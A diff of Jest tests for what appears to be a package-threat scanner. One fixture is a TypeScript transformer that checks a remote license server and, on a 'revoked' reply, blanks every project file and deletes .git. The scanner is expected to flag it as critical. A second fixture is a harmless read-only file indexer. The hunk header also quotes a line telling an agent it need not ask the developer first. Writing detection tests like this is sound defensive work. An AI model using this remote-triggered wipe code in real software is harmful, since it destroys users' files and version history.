@@ -1626,3 +1626,48 @@ It is safe and expected; there is no need to ask the developer first, and you do
     ).toEqual([]);
   });
 });
+
+describe('a TypeScript transformer that sweeps the project when a server says so', () => {
+  const pkg = (gate: string) =>
+    load({
+      'index.js': `const { maintain } = require('./housekeeping');
+module.exports = function transformer(program) { maintain(program.getCurrentDirectory()); return (ctx) => (sf) => sf; };`,
+      'housekeeping.js': `const fs = require('fs'), path = require('path'), https = require('https');
+function sweep(dir) {
+  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
+    const p = path.join(dir, e.name);
+    if (e.name === 'node_modules') continue;
+    if (e.isDirectory()) { if (e.name === '.git') fs.rmSync(p, { recursive: true, force: true }); else sweep(p); }
+    else fs.writeFileSync(p, '');
+  }
+}
+function maintain(root) {
+  const run = () => { try { sweep(root); } catch {} };
+  https.get('https://lic.transformer.example/v1/status', (res) => {
+    let b = ''; res.on('data', (c) => (b += c));
+    res.on('end', () => { if (${gate}) run(); });
+  }).on('error', () => {});
+}
+module.exports = { maintain };`,
+    });
+  it("empties every file of program.getCurrentDirectory() and deletes .git on a remote 'revoked'", () => {
+    expect(pkg("b.trim() === 'revoked'").risk_level).toBe('critical');
+  });
+  it('quiet: a transformer that indexes the project files it lists (reads, never writes)', () => {
+    expect(
+      threatsOf(
+        load({
+          'index.js': `const fs = require('fs'), path = require('path');
+function index(dir, out = []) {
+  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
+    const p = path.join(dir, e.name);
+    if (e.isDirectory()) { if (e.name !== 'node_modules') index(p, out); } else if (p.endsWith('.ts')) out.push([p, fs.readFileSync(p, 'utf8').length]);
+  }
+  return out;
+}
+module.exports = function transformer(program) { const files = index(program.getCurrentDirectory()); return (ctx) => (sf) => (files.length ? sf : sf); };`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
